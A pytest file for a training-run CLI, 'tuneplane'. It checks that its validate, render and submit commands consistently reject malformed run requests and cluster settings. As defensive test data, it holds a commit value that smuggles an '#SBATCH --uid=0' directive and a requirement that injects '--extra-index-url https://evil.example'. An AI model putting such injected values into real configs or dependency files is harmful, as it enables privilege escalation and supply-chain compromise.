"""What `tp validate` passes, `tp render`, `tp submit`, the bot and a cluster must not refuse later: one set
of checks (check.admission for requests, check.rules.settings for tuneplane.yaml) that validate reports
with a place and that resolve raises, so every command says the same."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

RUN_ID = "20260101-120000-abcdef"
OTHER_ID = "20260101-120000-fedcba"
URL = "https://wandb.example.org/team/proj"
FULL = "0123456789abcdef0123456789abcdef01234567"


def new(tp: Any, name: str, method: str) -> None:
    result = tp("new", name, "--method", method)
    assert result.code == 0, result.output


def write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def request(lab: Path, exp: str = "byo", run_id: str = RUN_ID, extra: str = "") -> str:
    rel = f"runs/{exp}/{run_id}.yaml"
    write(
        lab,
        rel,
        f"apiVersion: tuneplane/run/v1\nkind: RunRequest\nexperiment: {exp}\nrun_id: {run_id}\n"
        f"profile: h200\nimage: registry.example.com/team/x:1.0\nobservability_url: {URL}\n" + extra,
    )
    return rel


def report(tp: Any, *args: str) -> tuple[int, list[dict[str, Any]]]:
    result = tp("validate", "--format", "json", *args)
    assert "Traceback" not in result.output
    return result.code, json.loads(result.out)["problems"]


def only(problems: list[dict[str, Any]], rule: str) -> list[dict[str, Any]]:
    return [p for p in problems if p["rule"] == rule]


@pytest.fixture()
def byo(lab: Path, tp: Any) -> Path:
    new(tp, "byo", "custom/custom")
    write(lab, "experiments/byo/train.sh", 'exec python "${TUNEPLANE_EXP_DIR}/train.py"\n')
    return lab


def render(tp: Any, rel: str) -> Any:
    result = tp("render", rel, "--allow-dirty")
    assert "Traceback" not in result.output
    return result


# ── run requests ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("commit", ["HEAD\n#SBATCH --uid=0", "HEAD~1", "main", FULL.upper(), FULL + "0"])
def test_a_commit_that_is_not_a_full_id_is_refused_by_validate_and_render(byo: Path, tp: Any, commit: str) -> None:
    rel = request(byo, extra=f"commit: {json.dumps(commit)}\n")
    code, problems = report(tp, "byo")
    found = only(problems, "run-commit")
    assert code == 1 and len(found) == 1 and found[0]["severity"] == "error"
    assert (found[0]["file"], found[0]["line"]) == (rel, 8) and "git rev-parse" in found[0]["hint"]
    result = render(tp, rel)
    assert result.code in (1, 2) and "commit" in result.err and "#SBATCH" not in result.out


def test_a_short_commit_id_is_a_warning_with_the_command_that_fixes_it(byo: Path, tp: Any) -> None:
    rel = request(byo, extra="commit: 0123abc\n")
    code, problems = report(tp, "byo")
    found = only(problems, "run-commit")
    assert code == 0 and [p["severity"] for p in found] == ["warning"]
    assert "git rev-parse --verify '0123abc^{commit}'" in found[0]["hint"]
    assert render(tp, rel).code == 0


def test_a_full_commit_id_passes(byo: Path, tp: Any) -> None:
    rel = request(byo, extra=f"commit: {FULL}\n")
    code, problems = report(tp, "byo")
    assert code == 0 and only(problems, "run-commit") == []
    result = render(tp, rel)
    assert result.code == 0 and FULL in result.out


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
def test_a_non_finite_set_value_is_refused_not_rendered_as_nan(byo: Path, tp: Any, value: str) -> None:
    rel = request(byo, extra=f"set: {{x: {value}}}\n")
    code, problems = report(tp, "byo")
    assert code == 1 and [p["pointer"] for p in only(problems, "run-set-value")] == ["/set/x"]
    result = tp("render", rel, "--allow-dirty", "--format", "json")
    assert result.code in (1, 2) and "NaN" not in result.out and "Infinity" not in result.out


def test_a_huge_requested_by_is_refused_before_the_api_server_does(byo: Path, tp: Any) -> None:
    rel = request(byo, extra=f"requested_by: {'a' * 300_000}\n")
    code, problems = report(tp, "byo")
    found = only(problems, "run-annotation-size")
    assert code == 1 and [p["pointer"] for p in found] == ["/requested_by"] and "262,144" in found[0]["message"]
    assert render(tp, rel).code in (1, 2)


@pytest.mark.parametrize("timeout", ["123456789012345678901234567890", str(366 * 24 * 3600)])
def test_a_timeout_is_bounded(byo: Path, tp: Any, timeout: str) -> None:
    rel = request(byo, extra=f"timeout: {timeout}\n")
    code, problems = report(tp, "byo")
    assert code == 1 and [p["pointer"] for p in problems if p["file"] == rel] == ["/timeout"]
    assert render(tp, rel).code in (1, 2)


def test_a_platform_owned_key_in_config_is_refused_by_validate_as_by_render(lab: Path, tp: Any) -> None:
    new(tp, "sft", "trl/sft")
    config = lab / "experiments/sft/config.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "output_dir: /tmp/mine\n", encoding="utf-8")
    code, problems = report(tp, "sft")
    found = only(problems, "config-platform-owned")
    assert code == 1 and [(p["file"], p["pointer"]) for p in found] == [("experiments/sft/config.yaml", "/output_dir")]
    assert found[0]["line"] > 1
    result = tp(
        "render",
        "sft",
        "--profile",
        "h200",
        "--model",
        "m",
        "--train-data",
        "d.jsonl",
        "--validation-data",
        "v.jsonl",
        "--allow-dirty",
    )
    assert result.code in (1, 2) and "output_dir" in result.err


# ── tuneplane.yaml ──────────────────────────────────────────────────────────────────────────────────


def set_profile(lab: Path, old: str, new_text: str) -> None:
    path = lab / "tuneplane.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new_text, 1), encoding="utf-8")


TOLERATION = "      - key: nvidia.com/gpu\n        operator: Exists\n        effect: NoSchedule\n"


@pytest.mark.parametrize(
    ("old", "new_text", "rule", "pointer"),
    [
        ("shm_size: 64Gi", "shm_size: 64GB", "profile-quantity", "/profiles/h200/shm_size"),
        ('cpu: "96"', "cpu: lots", "profile-quantity", "/profiles/h200/cpu"),
        ('cpu: "96"', 'cpu: "-2"', "profile-quantity", "/profiles/h200/cpu"),
        ("memory: 1600Gi", "memory: 1e999", "profile-quantity", "/profiles/h200/memory"),
        (
            "nvidia.com/gpu.product: NVIDIA-H200",
            "nvidia.com/gpu.product: NVIDIA H200",
            "profile-node-selector",
            "/profiles/h200/node_selector/nvidia.com~1gpu.product",
        ),
        (
            "nvidia.com/gpu.product: NVIDIA-H200",
            "Bad_Prefix/x: y",
            "profile-node-selector",
            "/profiles/h200/node_selector/Bad_Prefix~1x",
        ),
        (
            TOLERATION,
            '      - key: ""\n        operator: Equal\n',
            "profile-toleration",
            "/profiles/h200/tolerations/0/operator",
        ),
        (
            TOLERATION,
            "      - key: nvidia.com/gpu\n        operator: Exists\n        value: x\n",
            "profile-toleration",
            "/profiles/h200/tolerations/0/value",
        ),
        (
            TOLERATION,
            "      - key: nvidia.com/gpu\n        operator: Equal\n        value: a b\n",
            "profile-toleration",
            "/profiles/h200/tolerations/0/value",
        ),
        ("root: /mnt/tuneplane", "root: data/../elsewhere", "storage-root", "/cluster/storage/root"),
    ],
)
def test_lab_values_a_cluster_refuses_fail_validate_and_render(
    byo: Path, tp: Any, old: str, new_text: str, rule: str, pointer: str
) -> None:
    set_profile(byo, old, new_text)
    rel = request(byo)
    code, problems = report(tp, "byo")
    found = only(problems, rule)
    assert code == 1 and [(p["file"], p["pointer"]) for p in found] == [("tuneplane.yaml", pointer)]
    assert found[0]["line"] > 1 and found[0]["hint"]
    result = render(tp, rel)
    assert result.code in (1, 2) and "tuneplane.yaml:" in result.err


@pytest.mark.parametrize("text", ['"8"', "500m", "1.5", "2e3", "0.5Ki"])
def test_every_quantity_form_the_api_server_takes_passes(byo: Path, tp: Any, text: str) -> None:
    set_profile(byo, 'cpu: "96"', f"cpu: {json.dumps(text) if text[0] != chr(34) else text}")
    code, problems = report(tp, "byo")
    assert only(problems, "profile-quantity") == []


def set_requirement(lab: Path, value: str) -> None:
    path = lab / "tuneplane.yaml"
    text, count = re.subn(r"(?m)^(\s*requirement:).*$", lambda m: f"{m[1]} {value}", path.read_text(encoding="utf-8"))
    assert count == 1
    path.write_text(text, encoding="utf-8")


def test_a_requirement_with_a_line_break_is_an_error(byo: Path, tp: Any) -> None:
    set_requirement(byo, '"tuneplane==0.5.0\\n--extra-index-url https://evil.example"')
    code, problems = report(tp)
    found = only(problems, "tool-requirement")
    assert code == 1 and [(p["pointer"], p["severity"]) for p in found] == [("/tool/requirement", "error")]


def test_an_empty_requirement_warns_with_the_fix(byo: Path, tp: Any) -> None:
    set_requirement(byo, '""')
    code, problems = report(tp)
    found = only(problems, "tool-requirement")
    assert code == 0 and [p["severity"] for p in found] == ["warning"] and "tuneplane==" in found[0]["hint"]


# ── a run on this machine ───────────────────────────────────────────────────────────────────────────


def test_submit_local_refuses_a_missing_data_file_before_committing(
    lab: Path, tp: Any, git: Any, tmp_path: Path
) -> None:
    new(tp, "sft", "trl/sft")
    git(lab, "add", "-A")
    git(lab, "commit", "-q", "-m", "sft")
    head = git(lab, "rev-parse", "HEAD")
    missing = tmp_path / "data" / "nope.jsonl"
    result = tp(
        "submit",
        "sft",
        "--profile",
        "local",
        "--model",
        "Qwen/Qwen3-0.6B",
        "--train-data",
        str(missing),
        "--validation-data",
        str(missing),
        "--local",
    )
    assert result.code in (1, 2) and "Traceback" not in result.output
    assert f"--train-data {missing}: no such file" in result.err
    assert git(lab, "rev-parse", "HEAD") == head and list(lab.glob("runs/**/*.yaml")) == []


def test_submit_refuses_a_lab_value_the_cluster_refuses_before_committing(byo: Path, tp: Any, git: Any) -> None:
    set_profile(byo, "shm_size: 64Gi", "shm_size: 64GB")
    git(byo, "add", "-A")
    git(byo, "commit", "-q", "-m", "lab")
    head = git(byo, "rev-parse", "HEAD")
    result = tp(
        "submit", "byo", "--profile", "h200", "--image", "registry.example.com/team/x:1.0", "--observability-url", URL
    )
    assert result.code in (1, 2) and "Traceback" not in result.output
    assert "tuneplane.yaml:" in result.err and "64GB" in result.err
    assert git(byo, "rev-parse", "HEAD") == head and list(byo.glob("runs/**/*.yaml")) == []


def test_a_non_finite_value_of_a_declared_parameter_is_said_once(lab: Path, tp: Any) -> None:
    new(tp, "sft", "trl/sft")
    rel = f"runs/sft/{RUN_ID}.yaml"
    write(
        lab,
        rel,
        f"apiVersion: tuneplane/run/v1\nkind: RunRequest\nexperiment: sft\nrun_id: {RUN_ID}\n"
        "profile: h200\nset: {learning_rate: .nan, no_such_key: .inf}\n",
    )
    code, problems = report(tp, "sft")
    on_set = sorted((p["pointer"], p["rule"]) for p in problems if p["file"] == rel and p["pointer"].startswith("/set"))
    assert code == 1 and on_set == [("/set/learning_rate", "run-set"), ("/set/no_such_key", "run-set")]
